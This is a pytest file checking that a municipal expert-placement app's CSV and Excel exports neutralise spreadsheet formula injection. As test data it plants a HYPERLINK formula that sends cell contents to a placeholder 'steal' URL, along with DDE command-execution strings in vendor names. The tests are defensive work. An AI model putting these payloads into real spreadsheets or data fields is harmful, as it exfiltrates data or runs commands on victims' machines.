"""The restriction register's CSV and Excel exports never carry a live formula (OWASP CSV injection)."""

import csv
import io

import pytest
from openpyxl import load_workbook

from backend.engagements.pledge import PLEDGE_VERSION
from backend.engagements.services import engagement_respond
from backend.placement.services import proposal_approve
from tests.backend.conftest import client_for
from tests.backend.factories import (
    AffiliationFactory,
    ExpertFactory,
    ExpertUserFactory,
    MunicipalStaffFactory,
    NeedFactory,
    ProcurementFactory,
    ProposalFactory,
    VendorFactory,
)

PREFIXES = ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"]  # OWASP, and the full-width forms
STEAL = '=HYPERLINK("http://x/steal?"&A1,"x")'


@pytest.fixture
def planted(coordinator):
    """An active engagement in 長野市 of an expert named by a formula, side-employed by one vendor per prefix;
    長野市 plans a procurement whose title is a formula (the register names affected procurements by title)."""
    expert = ExpertFactory(name=STEAL)
    ProcurementFactory(municipality_id="202011", status="planned", incumbent_vendor=None, title=STEAL, fiscal_year=2027)
    vendors = [VendorFactory(name=f"{prefix}cmd|' /C calc'!A0") for prefix in PREFIXES]
    for vendor in vendors:
        AffiliationFactory(expert=expert, vendor=vendor, relation="side_job")
    engagement = proposal_approve(actor=coordinator, proposal=ProposalFactory(
        expert=expert, need=NeedFactory(municipality_id="202011")))
    engagement_respond(actor=MunicipalStaffFactory(municipality_id="202011"), engagement=engagement, accept=True)
    engagement_respond(actor=ExpertUserFactory(expert=expert), engagement=engagement, accept=True,
                       pledge_version=PLEDGE_VERSION)
    return {vendor.name for vendor in vendors}


def test_the_register_csv_quotes_every_planted_formula(coordinator, planted):
    response = client_for(coordinator).get("/api/v1/restrictions/export/?file=csv")
    assert response.status_code == 200
    header, *rows = csv.reader(io.StringIO(response.content.decode("utf-8-sig")))
    vendor, expert = header.index("事業者"), header.index("専門人材")
    assert len(rows) == len(PREFIXES)
    assert {row[vendor] for row in rows} == {"'" + name for name in planted}
    assert {row[expert] for row in rows} == {"'" + STEAL}
    assert {row[header.index("影響を受ける予定調達")] for row in rows} == {"'" + STEAL}


def test_the_register_xlsx_has_no_formula_cell_and_shows_the_names_as_quoted_text(coordinator, planted):
    response = client_for(coordinator).get("/api/v1/restrictions/export/?file=xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert all(cell.data_type == "s" for cell in cells if isinstance(cell.value, str))
    header = [cell.value for cell in sheet[1]]
    vendors = {sheet.cell(row=r, column=header.index("事業者") + 1).value for r in range(2, sheet.max_row + 1)}
    experts = {sheet.cell(row=r, column=header.index("専門人材") + 1).value for r in range(2, sheet.max_row + 1)}
    titles = {sheet.cell(row=r, column=header.index("影響を受ける予定調達") + 1).value for r in range(2, sheet.max_row + 1)}
    assert titles == {"'" + STEAL}
    assert vendors == {"'" + name.replace("\r", "\n") for name in planted}  # XML reads CR back as LF
    assert experts == {"'" + STEAL}


@pytest.mark.parametrize("kind", ["experts", "needs"])
def test_the_import_templates_are_written_the_same_inert_way(coordinator, kind):
    client = client_for(coordinator)
    sheet = load_workbook(io.BytesIO(client.get(f"/api/v1/import/{kind}/template/?file=xlsx").content)).active
    assert sheet.freeze_panes == "A2" and sheet["A1"].font.bold
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    csv_text = client.get(f"/api/v1/import/{kind}/template/?file=csv").content
    assert csv_text.startswith("\ufeff".encode()) and csv_text.endswith(b"\r\n")
